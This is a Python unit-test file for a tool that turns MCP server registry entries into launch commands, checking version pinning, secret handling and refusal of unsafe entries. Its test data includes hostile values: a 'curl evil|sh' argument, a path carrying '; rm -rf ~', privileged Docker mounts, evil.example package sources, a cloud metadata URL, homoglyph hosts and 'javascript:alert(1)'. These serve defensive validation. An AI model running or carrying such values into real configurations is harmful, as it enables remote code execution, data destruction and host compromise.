"""A document becomes what its publisher meant, and nothing that nobody looked at."""

from __future__ import annotations

from typing import Any

import pytest

from bawn.model import Json
from tests.unit.registry.documents import npm, oci, proposal, pypi, remote

SECRET = {"name": "API_KEY", "isRequired": True, "isSecret": True, "description": "Of the makers"}
DIGEST = "sha256:" + "ab" * 32


@pytest.mark.parametrize(
    ("tree", "command"),
    [
        (npm(), ["npx", "@example/weather@1.2.3"]),
        (npm(runtimeArguments=[{"type": "positional", "value": "-y"}]), ["npx", "@example/weather@1.2.3"]),
        (pypi(runtimeHint="uvx"), ["uvx", "weather-mcp==1.2.3"]),
        (oci(), ["docker", "run", "-i", "--rm", "example/weather:1.2.3"]),
        (oci(identifier=f"ghcr.example/a/b@{DIGEST}"), ["docker", "run", "-i", "--rm", f"ghcr.example/a/b@{DIGEST}"]),
        (oci(identifier="a/b", version="2", registryBaseUrl="https://r.example"), ["docker", "run", "-i", "--rm", "r.example/a/b:2"]),
        (oci(runtimeHint="podman"), ["podman", "run", "-i", "--rm", "example/weather:1.2.3"]),
    ],
)  # fmt: skip
def test_a_package_is_started_by_its_usual_runner_at_its_version(
    tree: Json, command: list[str]
) -> None:
    found = proposal(tree)
    assert found.problem == ""
    assert found.settings["command"] == command
    assert found.settings["purpose"] == "Weather for everybody"


def test_arguments_are_words_of_their_own() -> None:
    arguments = [
        {"type": "positional", "value": "serve"},
        {"type": "named", "name": "--dir", "value": "{root}/x", "variables": {"root": {"default": "/srv"}}},
        {"type": "named", "name": "-p", "default": "80"},
        {"type": "named", "name": "--verbose"},
        {"type": "named", "name": "--colour", "description": "If you like"},
        {"type": "positional", "valueHint": "path", "isRequired": True},
    ]  # fmt: skip
    found = proposal(npm(packageArguments=arguments), {"path": "./docs; rm -rf ~"})
    words = found.settings["command"][2:]
    assert words == ["serve", "--dir=/srv/x", "-p", "80", "--verbose", "./docs; rm -rf ~"]
    assert found.left_out == ("colour",)
    missing = proposal(npm(packageArguments=arguments)).missing
    assert [each.name for each in missing] == ["path"]


def test_variables_become_references_of_a_name_that_the_document_cannot_choose() -> None:
    found = proposal(
        npm(
            environmentVariables=[
                SECRET,
                {"name": "AWS_SECRET_ACCESS_KEY", "isRequired": True},
                {"name": "REGION", "default": "eu"},
                {"name": "NEEDED", "isRequired": True},
                {"name": "OPTIONAL"},
                {"name": "LITERAL", "value": "${x}"},
            ]
        ),
        id_="aws",
    )
    assert found.settings["env"] == {
        "API_KEY": "${env:MCP_AWS_API_KEY}",
        "AWS_SECRET_ACCESS_KEY": "${env:MCP_AWS_AWS_SECRET_ACCESS_KEY}",
        "REGION": "eu",
        "NEEDED": "${env:MCP_AWS_NEEDED}",
        "LITERAL": "$${x}",
    }
    assert found.references[0].description == "Of the makers"
    assert found.left_out == ("OPTIONAL",)


def test_a_secret_in_the_document_is_not_taken_over() -> None:
    for value in (
        {"value": "hunter2"},
        {"default": "hunter2"},
        {"value": "ghp_0123456789abcdefghij"},
    ):
        found = proposal(npm(environmentVariables=[{"name": "API_KEY", **value}]))
        assert found.settings["env"] == {"API_KEY": "${env:MCP_WEATHER_API_KEY}"}
        assert "hunter2" not in str(found)
    plain = proposal(npm(environmentVariables=[{"name": "X", "value": "ghp_0123456789abcdefghij"}]))
    assert plain.settings["env"] == {"X": "${env:MCP_WEATHER_X}"}
    refused = proposal(npm(environmentVariables=[SECRET]), {"API_KEY": "hunter2"})
    assert "not in --set" in refused.problem
    assert "hunter2" not in str(refused)


def test_docker_is_told_the_names_of_the_variables_alone() -> None:
    found = proposal(
        oci(
            environmentVariables=[SECRET],
            runtimeArguments=[
                {"type": "named", "name": "-e", "value": "MODE={mode}", "variables": {"mode": {"default": "a"}}},
                {"type": "positional", "value": "--rm"},
            ],
            packageArguments=[{"type": "positional", "value": "serve"}],
        )
    )  # fmt: skip
    assert found.settings == {
        "command": [
            *("docker", "run", "-i", "--rm", "-e", "API_KEY", "-e", "MODE"),
            *("example/weather:1.2.3", "serve"),
        ],
        "env": {"API_KEY": "${env:MCP_WEATHER_API_KEY}", "MODE": "a"},
        "purpose": "Weather for everybody",
    }


def test_a_remote_with_a_bearer_token_gets_a_reference() -> None:
    header: dict[str, Any] = {"name": "Authorization", "value": "Bearer {key}", "variables": {"key": {"isSecret": True}}}  # fmt: skip
    found = proposal(remote(headers=[header]))
    assert found.settings["auth"] == {"type": "bearer", "token": "${env:MCP_WEATHER_TOKEN}"}
    assert proposal(remote()).settings["url"] == "https://weather.example.com/mcp"
    at = remote(url="https://{zone}.example.com/mcp", variables={"zone": {"isRequired": True}})
    assert [each.name for each in proposal(at).missing] == ["zone"]
    assert proposal(at, {"zone": "eu"}).settings["url"] == "https://eu.example.com/mcp"
    assert proposal(remote(url="http://localhost:3000/mcp")).problem == ""


WORD = {"type": "positional", "value": "x"}


@pytest.mark.parametrize(
    ("tree", "why"),
    [
        (npm(version="latest"), "not exact"),
        (npm(version="^1.2.3"), "not exact"),
        (npm(version="1.2.3 || 9"), "not exact"),
        (npm(version=None), "not exact"),
        (npm(identifier="git+https://evil.example/x"), "not the name of a package"),
        (npm(identifier="https://evil.example/x.tgz"), "not the name of a package"),
        (npm(identifier="../../evil"), "not the name of a package"),
        (npm(identifier="--yes"), "not the name of a package"),
        (npm(identifier="left@npm:evil"), "not the name of a package"),
        (npm(identifier="wеather"), "not the name of a package"),
        (npm(runtimeHint="sh"), "something else than npx"),
        (npm(runtimeHint="/bin/npx"), "something else than npx"),
        (npm(runtimeArguments=[{"type": "named", "name": "-c", "value": "curl evil|sh"}]), "options of npx"),
        (npm(runtimeArguments=[{"type": "named", "name": "--registry", "value": "https://evil"}]), "options of npx"),
        (npm(runtimeArguments=[WORD]), "options of npx"),
        (pypi(version="1.2.*"), "not exact"),
        (pypi(version=">=1"), "not exact"),
        (pypi(identifier="weather @ https://evil.example/x.whl"), "not the name of a package"),
        (pypi(runtimeArguments=[{"type": "named", "name": "--index-url", "value": "x"}]), "options of uvx"),
        (pypi(runtimeHint="python"), "something else than uvx"),
        (oci(identifier="a/b"), "neither a version nor a digest"),
        (oci(identifier="a/b:latest"), "neither a version nor a digest"),
        (oci(identifier="--privileged"), "not a reference to an image"),
        (oci(identifier="a/b:1 --privileged"), "not a reference to an image"),
        (oci(runtimeArguments=[{"type": "named", "name": "--privileged"}]), "options of docker"),
        (oci(runtimeArguments=[{"type": "named", "name": "-v", "value": "/:/host"}]), "options of docker"),
        (oci(runtimeArguments=[{"type": "positional", "value": "--network=host"}]), "options of docker"),
        (oci(runtimeHint="bash"), "something else than docker"),
        (npm(registryType="mcpb", identifier="https://e.example/x.mcpb"), "not started by bawn"),
        (npm(registryType="nuget"), "not started by bawn"),
        (npm(transport={"type": "sse", "url": "http://localhost:1/sse"}), "listens on HTTP"),
        (npm(packageArguments=[{"type": "named", "name": "--token", "value": "x"}]), "is a secret"),
        (npm(packageArguments=[{"type": "positional", "valueHint": "k", "isSecret": True}]), "is a secret"),
        (npm(packageArguments=[{"type": "positional", "value": "${env:HOME}"}]), "characters"),
        (npm(packageArguments=[{"type": "positional", "value": "ghp_0123456789abcdef"}]), "looks like a secret"),
        (npm(environmentVariables=[{"name": "A B", "value": "x"}]), "name of an environment variable"),
        (remote(type="sse"), "2024-11-05"),
        (remote(url="http://169.254.169.254/latest"), "https"),
        (remote(url="http://example.com/mcp"), "https"),
        (remote(url="https://me:pw@example.com/mcp"), "credentials"),
        (remote(url="https://exаmple.com/mcp"), "look like others"),
        (remote(url="https://example.com/mcp?api_key=abc"), "may be a secret"),
        (remote(url="https://example.com/{key}", variables={"key": {"isSecret": True}}), "is a secret"),
        (remote(headers=[{"name": "X-Key", "isRequired": True}]), "only bearer tokens"),
        (remote(headers=[{"name": "Authorization", "value": "Bearer abc"}]), "left to be filled in"),
    ],
)  # fmt: skip
def test_what_nobody_could_read_at_a_glance_is_not_carried(tree: Json, why: str) -> None:
    found = proposal(tree)
    assert why in found.problem


def test_descriptions_with_characters_that_hide_are_left_out() -> None:
    for text in ("a\x1b[2Jb", "safe \u202eelif", "a\u200bb"):
        found = proposal({**npm(), "description": text})
        assert "purpose" not in found.settings
        assert "cannot be seen" in found.notes[0]
    source = {"url": "javascript:alert(1)", "source": "x"}
    assert "source" not in proposal({**npm(), "repository": source}).settings
